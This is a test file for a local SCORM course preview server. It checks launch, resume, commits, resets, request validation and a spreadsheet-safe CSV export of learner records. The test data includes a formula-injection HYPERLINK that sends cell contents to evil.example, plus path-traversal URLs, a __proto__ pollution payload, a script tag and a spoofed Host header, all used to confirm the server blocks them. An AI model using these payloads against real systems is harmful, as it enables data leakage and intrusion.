import assert from 'node:assert/strict';
import { request } from 'node:http';
import { after, before, describe, it } from 'node:test';
import { parseCsv } from './csv.js';
import { startPreview, type PreviewServer } from './preview-server.js';
import { DEFAULT_LEARNERS } from './store.js';
import { TEST_QUESTIONS, tempPreviewDirs } from './test-kit.js';

type Json = Record<string, unknown>;

let preview: PreviewServer;
let dirs: ReturnType<typeof tempPreviewDirs>;
let clock = Date.parse('2026-01-05T09:00:00Z');
const MAX_BODY = 64 * 1024;

before(async () => {
  dirs = tempPreviewDirs();
  preview = await startPreview({
    port: 0,
    contentPort: 0,
    dataDir: dirs.dataDir,
    buildDir: dirs.buildDir,
    maxBodyBytes: MAX_BODY,
    now: () => new Date((clock += 1000)),
    // A learner whose name a spreadsheet would run as a formula (the CSV must not).
    learners: [...DEFAULT_LEARNERS, { id: 'hv_formula', name: '=HYPERLINK("http://evil.example","Jones")' }],
  });
});
after(async () => {
  await preview.close();
  dirs.cleanup();
});

const url = (path: string) => new URL(path, preview.url).toString();
async function post(
  path: string,
  body: unknown,
  type = 'application/json',
  headers: Record<string, string> = {},
) {
  const response = await fetch(url(path), {
    method: 'POST',
    headers: { 'Content-Type': type, ...headers },
    body: typeof body === 'string' ? body : JSON.stringify(body),
  });
  return { status: response.status, json: (await response.json()) as Json };
}
async function launch(learnerId: string, standard: 'scorm12' | 'scorm2004') {
  const { status, json } = await post('/api/launch', { learnerId, standard });
  assert.equal(status, 200, JSON.stringify(json));
  return json as {
    attemptId: number;
    attemptNumber: number;
    sessionId: number;
    entry: string;
    commitUrl: string;
    cmi: Json;
  };
}
const cmi2004 = (extra: Json = {}) => ({
  cmi: {
    completion_status: 'incomplete',
    success_status: 'unknown',
    exit: 'suspend',
    location: 'p1',
    suspend_data: 'state-1',
    ...extra,
  },
});
const cmi12 = (core: Json = {}, extra: Json = {}) => ({
  cmi: {
    core: { lesson_status: 'incomplete', exit: 'suspend', lesson_location: 'p1', ...core },
    suspend_data: 'state-1',
    ...extra,
  },
});
const attempt = async (id: number) =>
  (await (await fetch(url(`/api/attempts/${id}`))).json()) as Json & {
    cmi: Json;
    state: string;
    totalSeconds: number;
  };

describe('the preview server', () => {
  it('listens on loopback and serves both origins', async () => {
    assert.match(preview.url, /^http:\/\/127\.0\.0\.1:\d+\/$/);
    assert.match(preview.contentOrigin, /^http:\/\/127\.0\.0\.1:\d+$/);
    assert.notEqual(new URL(preview.url).origin, preview.contentOrigin);
    const config = (await (await fetch(url('/api/config'))).json()) as Json;
    assert.equal(config.contentOrigin, preview.contentOrigin);
    assert.deepEqual(config.course, { title: 'Test course', version: '1.2.3' });
    for (const origin of [new URL(preview.url).origin, preview.contentOrigin]) {
      assert.equal((await fetch(`${origin}/launch.html`)).status, 200);
      assert.equal((await fetch(`${origin}/scorm-again/scorm-again.js`)).status, 200);
      assert.equal((await fetch(`${origin}/course/scorm12/index.html`)).status, 200);
    }
    assert.equal(
      (await fetch(`${preview.contentOrigin}/api/config`)).status,
      404,
      'the content origin has no LMS API',
    );
    assert.equal((await fetch(`${preview.contentOrigin}/records`)).status, 404);
  });

  it('tells the runtime frame on either origin where the LMS is', async () => {
    for (const origin of [new URL(preview.url).origin, preview.contentOrigin]) {
      assert.deepEqual(await (await fetch(`${origin}/preview-config.json`)).json(), {
        lmsOrigin: new URL(preview.url).origin,
      });
    }
  });

  it('refuses Host headers that are not loopback (DNS rebinding)', async () => {
    const status = await new Promise<number>((done, fail) => {
      const req = request(
        url('/records.csv'),
        { headers: { Host: `evil.example:${new URL(preview.url).port}` } },
        (res) => {
          res.resume();
          done(res.statusCode ?? 0);
        },
      );
      req.on('error', fail);
      req.end();
    });
    assert.equal(status, 403);
  });

  it('never serves files outside its folders', async () => {
    for (const path of [
      '/course/scorm12/%2e%2e/%2e%2e/secret.txt',
      '/course/scorm12/..%2f..%2fsecret.txt',
      '/scorm-again/%2e%2e%2f%2e%2e%2fpackage.json',
    ]) {
      assert.equal((await fetch(url(path))).status, 404, path);
    }
  });

  it('launches ab-initio with the learner, credit and the pass mark from the course', async () => {
    const first = await launch('hv_asha', 'scorm2004');
    assert.equal(first.entry, 'ab-initio');
    assert.equal(first.attemptNumber, 1);
    assert.deepEqual(first.cmi, {
      learner_id: 'hv_asha',
      learner_name: 'Patel, Asha',
      credit: 'credit',
      mode: 'normal',
      entry: 'ab-initio',
      total_time: 'PT0S',
      scaled_passing_score: '0.8',
    });
    const twelve = await launch('hv_asha', 'scorm12');
    assert.deepEqual(twelve.cmi, {
      core: {
        student_id: 'hv_asha',
        student_name: 'Patel, Asha',
        credit: 'credit',
        lesson_mode: 'normal',
        entry: 'ab-initio',
        total_time: '00:00:00.00',
      },
      student_data: { mastery_score: '80' },
    });
  });

  it('resumes exactly after a suspend: entry, suspend_data, location, interactions, summed total time', async () => {
    const first = await launch('hv_sam', 'scorm2004');
    const interactions = {
      0: {
        id: 'k1_bonding_k',
        type: 'choice',
        description: 'Which is bonding?',
        learner_response: 'a',
        result: 'correct',
        correct_responses: { 0: { pattern: 'a' } },
      },
    };
    assert.equal(
      (
        await post(first.commitUrl, {
          ...cmi2004({ location: 'lesson_2', suspend_data: '{"v":"1.2.3"}', interactions }),
          commitSequence: 1,
        })
      ).status,
      200,
    );
    // The final commit arrives as a sendBeacon text/plain body with ?terminate=true.
    const beacon = await post(
      `${first.commitUrl}?terminate=true`,
      cmi2004({
        location: 'lesson_2',
        suspend_data: '{"v":"1.2.3"}',
        interactions,
        session_time: 'PT1M30S',
        total_time: 'PT1M30S',
      }),
      'text/plain;charset=UTF-8',
    );
    assert.deepEqual(beacon, { status: 200, json: { result: 'true', errorCode: 0 } });
    const second = await launch('hv_sam', 'scorm2004');
    assert.equal(second.attemptId, first.attemptId);
    assert.equal(second.entry, 'resume');
    assert.equal(second.cmi.location, 'lesson_2');
    assert.equal(second.cmi.suspend_data, '{"v":"1.2.3"}');
    assert.equal(second.cmi.total_time, 'PT1M30S');
    assert.deepEqual(second.cmi.interactions, interactions);
    assert.equal(second.cmi.exit, undefined, 'exit is not carried over');
    assert.equal(second.cmi.session_time, undefined, 'session_time is not carried over');
    await post(
      `${second.commitUrl}?terminate=true`,
      cmi2004({ location: 'lesson_3', session_time: 'PT45.5S' }),
      'text/plain',
    );
    const third = await launch('hv_sam', 'scorm2004');
    assert.equal(third.cmi.total_time, 'PT2M15.5S');
    assert.equal(third.cmi.location, 'lesson_3');
  });

  it('continues an open attempt without suspend with its data and entry ""', async () => {
    const first = await launch('hv_chidi', 'scorm2004');
    const interactions = {
      0: { id: 'k1_k', type: 'true-false', learner_response: 'true', result: 'correct' },
    };
    // The page crashed before the content set cmi.exit: no suspend, no terminate.
    await post(first.commitUrl, cmi2004({ exit: '', location: 'p2', interactions }));
    const next = await launch('hv_chidi', 'scorm2004');
    assert.equal(next.attemptId, first.attemptId);
    assert.equal(next.entry, '');
    assert.deepEqual(next.cmi.interactions, interactions, 'interactions stay, so new ones append');
    assert.equal(next.cmi.location, 'p2');
    await post(
      `${next.commitUrl}?terminate=true`,
      cmi2004({ exit: 'normal', completion_status: 'completed' }),
      'text/plain',
    );
    assert.equal((await attempt(first.attemptId)).state, 'ended');
  });

  it('ends the attempt when the content exits without suspending; the next launch is a new attempt', async () => {
    const first = await launch('hv_chidi', 'scorm12');
    await post(
      `${first.commitUrl}?terminate=true`,
      cmi12({
        lesson_status: 'passed',
        exit: '',
        session_time: '00:10:00',
        score: { raw: '90', min: '0', max: '100' },
      }),
    );
    assert.equal((await attempt(first.attemptId)).state, 'ended');
    const next = await launch('hv_chidi', 'scorm12');
    assert.equal(next.attemptNumber, 2);
    assert.equal(next.entry, 'ab-initio');
    assert.equal((next.cmi.core as Json).lesson_location, undefined);
    const late = await post(first.commitUrl, cmi12());
    assert.equal(late.status, 409, 'an ended attempt accepts no more commits');
  });

  it('resumes exactly after the server restarts (the records are on disk)', async () => {
    const options = { port: 0, contentPort: 0, dataDir: `${dirs.dataDir}-restart`, buildDir: dirs.buildDir };
    const launchOn = async (server: PreviewServer) =>
      (await (
        await fetch(new URL('/api/launch', server.url), {
          method: 'POST',
          headers: { 'Content-Type': 'application/json' },
          body: JSON.stringify({ learnerId: 'hv_sam', standard: 'scorm12' }),
        })
      ).json()) as { commitUrl: string; entry: string; attemptId: number; cmi: Json };
    const before = await startPreview(options);
    const one = await launchOn(before);
    await fetch(new URL(`${one.commitUrl}?terminate=true`, before.url), {
      method: 'POST',
      headers: { 'Content-Type': 'text/plain' },
      body: JSON.stringify(
        cmi12({ lesson_location: 'lesson_5', session_time: '00:04:00' }, { suspend_data: 'saved' }),
      ),
    });
    await before.close();
    const afterRestart = await startPreview(options);
    try {
      const two = await launchOn(afterRestart);
      assert.equal(two.attemptId, one.attemptId);
      assert.equal(two.entry, 'resume');
      assert.equal(two.cmi.suspend_data, 'saved');
      assert.deepEqual(
        {
          location: (two.cmi.core as Json).lesson_location,
          entry: (two.cmi.core as Json).entry,
          total: (two.cmi.core as Json).total_time,
        },
        { location: 'lesson_5', entry: 'resume', total: '00:04:00.00' },
      );
    } finally {
      await afterRestart.close();
    }
  });

  it('counts a late beacon from a reloaded page without letting it overwrite the new session', async () => {
    const learners = [{ id: 'late', name: 'Late, Lee' }];
    const other = await startPreview({
      port: 0,
      contentPort: 0,
      dataDir: `${dirs.dataDir}-late`,
      buildDir: dirs.buildDir,
      learners,
    });
    try {
      const postTo = (path: string, body: unknown) =>
        fetch(new URL(path, other.url), {
          method: 'POST',
          headers: { 'Content-Type': 'text/plain' },
          body: JSON.stringify(body),
        });
      const launchLate = async () =>
        (await (await postTo('/api/launch', { learnerId: 'late', standard: 'scorm2004' })).json()) as {
          commitUrl: string;
          attemptId: number;
          entry: string;
        };
      const one = await launchLate();
      await postTo(one.commitUrl, cmi2004({ location: 'page_4' }));
      const two = await launchLate(); // the reload: new session before the old beacon arrived
      assert.equal(two.entry, 'resume');
      assert.equal(
        (
          await postTo(
            `${one.commitUrl}?terminate=true`,
            cmi2004({ location: 'stale', session_time: 'PT2M' }),
          )
        ).status,
        200,
      );
      const record = other.store.attempt(two.attemptId);
      assert.equal(record.cmi.location, 'page_4', 'the stale beacon did not overwrite the attempt');
      assert.equal(record.totalSeconds, 120, 'but its session time counts');
      assert.equal(record.commits, 2);
    } finally {
      await other.close();
    }
  });

  it('resets an attempt: records kept, commits refused, next launch starts afresh', async () => {
    const first = await launch('hv_asha', 'scorm2004');
    await post(first.commitUrl, cmi2004({ location: 'p9' }));
    const reset = await post(`/api/attempts/${first.attemptId}/reset`, '');
    assert.equal(reset.status, 200);
    assert.equal(reset.json.state, 'reset');
    assert.equal((await post(first.commitUrl, cmi2004())).status, 409);
    // The running page's final beacon still lands (its time counts) but changes nothing else.
    const beacon = await post(
      `${first.commitUrl}?terminate=true`,
      cmi2004({ location: 'late', session_time: 'PT9S' }),
      'text/plain',
    );
    assert.equal(beacon.status, 200);
    assert.equal((await attempt(first.attemptId)).totalSeconds, 9);
    assert.equal((await post(`${first.commitUrl}?terminate=true`, cmi2004())).status, 409, 'only once');
    const next = await launch('hv_asha', 'scorm2004');
    assert.notEqual(next.attemptId, first.attemptId);
    assert.equal(next.entry, 'ab-initio');
    assert.equal((await attempt(first.attemptId)).cmi.location, 'p9', 'the reset attempt keeps its record');
    assert.equal((await post('/api/attempts/999999/reset', '')).status, 404);
    // The records page's form does the same, then shows the records again.
    const again = await launch('hv_asha', 'scorm2004');
    const form = await fetch(url(`/records/attempts/${again.attemptId}/reset`), {
      method: 'POST',
      redirect: 'manual',
      headers: { Origin: new URL(preview.url).origin },
    });
    assert.equal(form.status, 303);
    assert.equal(form.headers.get('location'), '/records');
    assert.equal((await attempt(again.attemptId)).state, 'reset');
  });
});

describe('bad requests get clear 4xx answers and never touch the records', () => {
  let session: { commitUrl: string; attemptId: number };
  before(async () => {
    session = await launch('hv_sam', 'scorm12');
    assert.equal((await post(session.commitUrl, cmi12({ lesson_location: 'good' }))).status, 200);
  });
  const unchanged = async () => {
    const record = await attempt(session.attemptId);
    assert.equal((record.cmi.core as Json).lesson_location, 'good');
    assert.equal(record.state, 'open');
  };

  it('unknown learner → 404', async () => {
    const response = await post('/api/launch', { learnerId: 'nobody', standard: 'scorm12' });
    assert.equal(response.status, 404);
    assert.match(String(response.json.error), /unknown learner "nobody"/);
  });

  it('bad launch requests → 400', async () => {
    for (const body of [{ learnerId: 'hv_sam', standard: 'scorm3' }, { standard: 'scorm12' }, [], 'null']) {
      const response = await post('/api/launch', body);
      assert.equal(response.status, 400, JSON.stringify(body));
      assert.match(String(response.json.error), /learnerId/);
    }
  });

  it('malformed JSON → 400', async () => {
    const response = await post(session.commitUrl, '{"cmi": {"core": ', 'text/plain');
    assert.equal(response.status, 400);
    assert.match(String(response.json.error), /malformed JSON/);
    assert.equal(response.json.result, 'false');
    await unchanged();
  });

  it('wrong JSON shapes → 400 naming the problem', async () => {
    const cases: Array<[unknown, RegExp]> = [
      [[], /JSON object/],
      [{ cmi: [] }, /cmi must be a string or an object, found an array/],
      [
        { cmi: { core: { lesson_status: null } } },
        /cmi\.core\.lesson_status must be a string or an object, found null/,
      ],
      [cmi2004(), /SCORM 1\.2 commit needs cmi\.core\.lesson_status/],
      [{ ...cmi12(), extra: 1 }, /unexpected field "extra"/],
      [{ ...cmi12(), commitSequence: -1 }, /commitSequence/],
      [{ cmi: { core: { lesson_status: 'x', 'bad key': 'y' } } }, /invalid key/],
      [cmi12({ session_time: 'ten minutes' }), /unreadable session time/],
      [
        { cmi: JSON.parse('{"core":{"lesson_status":"x"},"__proto__":{"polluted":"yes"}}') as unknown },
        /"__proto__"/,
      ],
      [
        cmi12({}, { constructor: { prototype: 'x' } }),
        /cmi has the key "constructor", which is not a CMI element/,
      ],
      [cmi12({}, { interactions: { prototype: 'x' } }), /"prototype"/],
      [
        cmi12({ session_time: '9999:00:00' }),
        /session time "9999:00:00" is about 9,999 hours; a session is at most 168 hours/,
      ],
      [{ cmi: JSON.parse(`${'{"a":'.repeat(12)}"deep"${'}'.repeat(12)}`) as unknown }, /nested too deeply/],
    ];
    for (const [body, message] of cases) {
      const response = await post(session.commitUrl, body);
      assert.equal(response.status, 400, JSON.stringify(body));
      assert.match(String(response.json.error), message);
    }
    await unchanged();
  });

  it('an absurd 2004 session time → 400, and later launches keep a sane total_time', async () => {
    const first = await launch('hv_chidi', 'scorm2004');
    const poisoned = await post(
      `${first.commitUrl}?terminate=true`,
      cmi2004({ session_time: `PT${'9'.repeat(30)}H` }),
      'text/plain',
    );
    assert.equal(poisoned.status, 400);
    assert.match(
      String(poisoned.json.error),
      /session time "PT9{20}.*a session is at most 168 hours.*nothing was stored/,
    );
    assert.equal(({} as Json).polluted, undefined, 'no commit reached Object.prototype');
    const fine = await post(first.commitUrl, cmi2004({ session_time: 'PT5M58S' }));
    assert.equal(fine.status, 200);
    const again = await launch('hv_chidi', 'scorm2004');
    assert.equal(again.attemptId, first.attemptId);
    assert.equal(again.cmi.total_time, 'PT5M58S');
  });

  it('unsupported content type → 415', async () => {
    const response = await post(session.commitUrl, '<cmi/>', 'application/xml');
    assert.equal(response.status, 415);
    await unchanged();
  });

  it('oversized body (declared length) → 413, and the server carries on', async () => {
    const huge = JSON.stringify(cmi12({}, { suspend_data: 'x'.repeat(MAX_BODY) }));
    const response = await post(session.commitUrl, huge);
    assert.equal(response.status, 413);
    assert.match(String(response.json.error), /larger than 65536 bytes/);
    await unchanged();
  });

  it('oversized body (chunked, no length) → 413', async () => {
    // Keeps writing past the limit; the server answers 413 and closes the connection.
    const status = await new Promise<number>((resolveStatus, reject) => {
      let answered = 0;
      const req = request(
        url(session.commitUrl),
        { method: 'POST', headers: { 'Content-Type': 'application/json', 'Transfer-Encoding': 'chunked' } },
        (res) => {
          answered = res.statusCode ?? 0;
          res.resume();
          res.on('end', () => resolveStatus(answered));
        },
      );
      // A reset while still writing is expected once the server has answered.
      req.on('error', (error) => (answered ? resolveStatus(answered) : reject(error)));
      const chunk = 'x'.repeat(16 * 1024);
      let sent = 0;
      const pump = () => {
        while (sent < MAX_BODY * 4 && req.write(chunk)) sent += chunk.length;
        if (sent < MAX_BODY * 4) req.once('drain', pump);
        else req.end();
      };
      pump();
    });
    assert.equal(status, 413);
    await unchanged();
  });

  it('unknown session or route → 404; wrong method → 405', async () => {
    assert.equal((await post('/api/sessions/424242/commit', cmi12())).status, 404);
    assert.equal((await post('/api/sessions/abc/commit', cmi12())).status, 404);
    assert.equal((await fetch(url('/api/nothing'))).status, 404);
    assert.equal((await fetch(url('/api/launch'), { method: 'DELETE' })).status, 405);
  });

  it('requests from another site → 403; the content origin gets CORS', async () => {
    const foreign = await post(session.commitUrl, cmi12(), 'application/json', {
      Origin: 'https://evil.example',
    });
    assert.equal(foreign.status, 403);
    const preflight = await fetch(url(session.commitUrl), {
      method: 'OPTIONS',
      headers: { Origin: preview.contentOrigin, 'Access-Control-Request-Method': 'POST' },
    });
    assert.equal(preflight.status, 204);
    assert.equal(preflight.headers.get('access-control-allow-origin'), preview.contentOrigin);
    await unchanged();
  });
});

describe('concurrent commits from two learners', () => {
  it('stores every commit against the right attempt', async () => {
    const a = await launch('hv_asha', 'scorm12');
    const b = await launch('hv_chidi', 'scorm12');
    const N = 25;
    const requests = Array.from({ length: N }, (_, i) => [
      post(a.commitUrl, {
        ...cmi12({ lesson_location: `asha_${i}` }, { suspend_data: `asha-${i}` }),
        commitSequence: i,
      }),
      post(b.commitUrl, {
        ...cmi12({ lesson_location: `chidi_${i}` }, { suspend_data: `chidi-${i}` }),
        commitSequence: i,
      }),
    ]).flat();
    const responses = await Promise.all(requests);
    assert.ok(responses.every((r) => r.status === 200));
    const [ra, rb] = [await attempt(a.attemptId), await attempt(b.attemptId)];
    assert.equal(ra.commits, N);
    assert.equal(rb.commits, N);
    assert.match(String(ra.cmi.suspend_data), /^asha-\d+$/);
    assert.match(String(rb.cmi.suspend_data), /^chidi-\d+$/);
    assert.match(String((ra.cmi.core as Json).lesson_location), /^asha_\d+$/);
  });
});

describe('records', () => {
  it('shows answers in words beside the raw CMI, in the view and a CSV safe for spreadsheets', async () => {
    const one = await launch('hv_asha', 'scorm2004');
    const description = '=HYPERLINK("http://evil.example/?"&A1,"Why, exactly, would you wait?")';
    const interactions = {
      0: {
        id: 'a_cues_a1',
        type: 'matching',
        description,
        learner_response: 'yawn[.]dis',
        result: 'incorrect',
        timestamp: '2026-01-05T09:00:10.5Z',
        latency: 'PT12S',
        correct_responses: { 0: { pattern: 'yawn[.]eng' } },
      },
      1: { id: 'stranger_a1', type: 'other', description, learner_response: '@x', result: 'neutral' },
    };
    await post(
      one.commitUrl,
      cmi2004({ completion_status: 'completed', success_status: 'failed', session_time: 'PT1M' }),
    );
    await post(
      `${one.commitUrl}?terminate=true`,
      cmi2004({
        interactions,
        session_time: 'PT5M58S',
        score: { scaled: '0.75', raw: '75', min: '0', max: '100' },
        success_status: 'passed',
        completion_status: 'completed',
      }),
      'text/plain',
    );
    const twelve = await launch('hv_sam', 'scorm12');
    const interactions12 = {
      0: {
        id: 'k1_bonding_k',
        type: 'choice',
        student_response: 'a',
        result: 'correct',
        time: '09:01:00',
        latency: '00:00:07',
        correct_responses: { 0: { pattern: 'a' } },
      },
      1: {
        id: 'k1_a2',
        type: 'true-false',
        student_response: 't',
        result: 'wrong',
        time: '09:02:00',
        correct_responses: { 0: { pattern: 'f' } },
      },
      2: { id: 'unknown_x', type: 'choice', student_response: '<script>', result: 'wrong', time: '09:03:00' },
    };
    await post(
      twelve.commitUrl,
      cmi12(
        { lesson_status: 'passed', exit: 'suspend', session_time: '00:02:05' },
        { interactions: interactions12 },
      ),
    );
    const formula = await launch('hv_formula', 'scorm12');
    await post(formula.commitUrl, cmi12());

    const csvResponse = await fetch(url('/records.csv'));
    assert.equal(csvResponse.status, 200);
    assert.match(csvResponse.headers.get('content-type') ?? '', /^text\/csv/);
    assert.match(
      csvResponse.headers.get('content-disposition') ?? '',
      /^attachment; filename="test_course-1\.2\.3-records-2026-01-05\.csv"$/,
      'the file names the course, its version and the date',
    );
    const text = await csvResponse.text();
    // No cell starts a formula: each formula-like value became quoted text starting with a quote.
    assert.doesNotMatch(text, /(^|,|\r\n)([=+\-@\t]|\r(?!\n))/);
    assert.match(text, /,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1/);
    const rows = parseCsv(text);
    const header = rows[0] ?? [];
    const col = (row: string[], name: string) => {
      assert.ok(header.includes(name), `column ${name}`);
      return row[header.indexOf(name)];
    };
    const cues = rows.find((r) => col(r, 'interaction_id') === 'a_cues_a1');
    assert.ok(cues);
    assert.equal(
      col(cues, 'question'),
      TEST_QUESTIONS[2]?.prompt,
      '2004: the full prompt, not the description',
    );
    assert.equal(col(cues, 'question_id'), 'a_cues');
    assert.equal(col(cues, 'kind'), 'Assessment, attempt 1');
    assert.equal(col(cues, 'assessment_attempt'), '1');
    assert.equal(col(cues, 'learner_name'), 'Patel, Asha');
    assert.equal(col(cues, 'success'), 'passed');
    assert.equal(col(cues, 'score_percent'), '75');
    assert.equal(col(cues, 'total_time'), '5 min 58 s', 'one session: its last session_time counts');
    assert.equal(col(cues, 'total_time_cmi'), 'PT5M58S');
    assert.equal(col(cues, 'content_version'), '1.2.3');
    assert.equal(col(cues, 'learner_response'), 'Yawning → Disengagement');
    assert.equal(col(cues, 'learner_response_cmi'), 'yawn[.]dis');
    assert.equal(col(cues, 'correct_response'), 'Yawning → Engagement');
    assert.equal(col(cues, 'correct_response_cmi'), 'yawn[.]eng');
    assert.equal(col(cues, 'result'), 'incorrect');
    assert.equal(col(cues, 'latency'), '12 s');
    assert.equal(col(cues, 'attempt_state'), 'open');
    assert.match(
      col(cues, 'attempt_state_note') ?? '',
      /exit "suspend".*"completed" is already recorded and stands/,
    );
    // Completed at the first commit, passed at the second: the server's clock, one second a call.
    const completedAt = col(cues, 'completed_at') ?? '';
    const passedAt = col(cues, 'passed_at') ?? '';
    assert.match(completedAt, /^2026-01-05T\d\d:\d\d:\d\d\.\d{3}Z$/);
    assert.ok(passedAt > completedAt, `${passedAt} after ${completedAt}`);
    const stranger = rows.find((r) => col(r, 'interaction_id') === 'stranger_a1');
    assert.ok(stranger);
    assert.equal(
      col(stranger, 'question'),
      `'${description}`,
      'unknown ids keep the description, neutralised',
    );
    assert.equal(col(stranger, 'learner_response_cmi'), "'@x");
    assert.equal(col(stranger, 'kind'), '');

    const bonding = rows.find((r) => col(r, 'interaction_id') === 'k1_bonding_k');
    assert.ok(bonding);
    assert.equal(col(bonding, 'question'), TEST_QUESTIONS[0]?.prompt, '1.2 ids map back to the question');
    assert.equal(col(bonding, 'kind'), 'Practice check');
    assert.equal(col(bonding, 'assessment_attempt'), '');
    assert.equal(col(bonding, 'learner_response'), "The parent's feelings");
    assert.equal(col(bonding, 'latency'), '7 s');
    assert.equal(col(bonding, 'attempt_state'), 'open');
    assert.match(col(bonding, 'attempt_state_note') ?? '', /suspended it.*"passed" is already recorded/);
    assert.ok(
      col(bonding, 'completed_at') && col(bonding, 'passed_at'),
      '1.2 passed counts as completed too',
    );
    const k1 = rows.find((r) => col(r, 'interaction_id') === 'k1_a2');
    assert.ok(k1);
    assert.equal(col(k1, 'question'), 'A shorter id that is a prefix of another');
    assert.equal(col(k1, 'kind'), 'Assessment, attempt 2');
    assert.equal(col(k1, 'learner_response'), 'True');
    assert.equal(col(k1, 'correct_response'), 'False');
    assert.equal(col(k1, 'result'), 'incorrect');
    assert.equal(col(k1, 'result_cmi'), 'wrong');
    assert.ok(rows.every((r) => r.length === header.length));
    assert.ok(
      rows.some((r) => col(r, 'learner_name') === "O'Connor, Chidi"),
      'attempts without interactions still have a row',
    );
    assert.ok(
      rows.some((r) => col(r, 'learner_name') === `'=HYPERLINK("http://evil.example","Jones")`),
      'a learner name starting with = is exported as text',
    );

    const html = await (await fetch(url('/records'))).text();
    assert.match(html, /Patel, Asha/);
    assert.match(html, /<code>&lt;script&gt;<\/code>/);
    assert.doesNotMatch(html, /<script>/);
    assert.match(
      html,
      /<span class="words">Yawning → Disengagement<\/span><span class="raw">CMI <code>yawn\[\.\]dis<\/code>/,
    );
    assert.match(html, /download="test_course-1\.2\.3-records-2026-01-05\.csv"/);
    // The reset buttons sit in their own section after every attempt's audit data.
    const lastAttempt = html.lastIndexOf('<section class="attempt"');
    const controls = html.indexOf('<section class="controls"');
    assert.ok(controls > lastAttempt, 'reset controls come after the records');
    assert.equal(html.slice(0, controls).includes('Reset this attempt'), false);
    assert.match(html.slice(controls), /Reset this attempt/);
  });
});

describe('serving course.js wrongly, to test the failed-load message', () => {
  for (const [fault, status, type] of [
    ['octet-stream', 200, 'application/octet-stream'],
    ['missing', 404, 'application/json'],
  ] as const) {
    it(`courseScript: '${fault}' → ${status} ${type}; the rest of the package is served as usual`, async () => {
      const faulty = await startPreview({
        port: 0,
        contentPort: 0,
        dataDir: `${dirs.dataDir}-${fault}`,
        buildDir: dirs.buildDir,
        courseScript: fault,
      });
      try {
        for (const origin of [faulty.url, `${faulty.contentOrigin}/`]) {
          const script = await fetch(new URL('course/scorm12/course.js', origin));
          assert.equal(script.status, status);
          assert.match(script.headers.get('content-type') ?? '', new RegExp(`^${type}`));
          assert.equal(script.headers.get('x-content-type-options'), 'nosniff');
          const page = await fetch(new URL('course/scorm2004/index.html', origin));
          assert.equal(page.status, 200);
        }
      } finally {
        await faulty.close();
      }
      const normal = await fetch(url('/course/scorm12/course.js'));
      assert.match(normal.headers.get('content-type') ?? '', /javascript/);
    });
  }
});
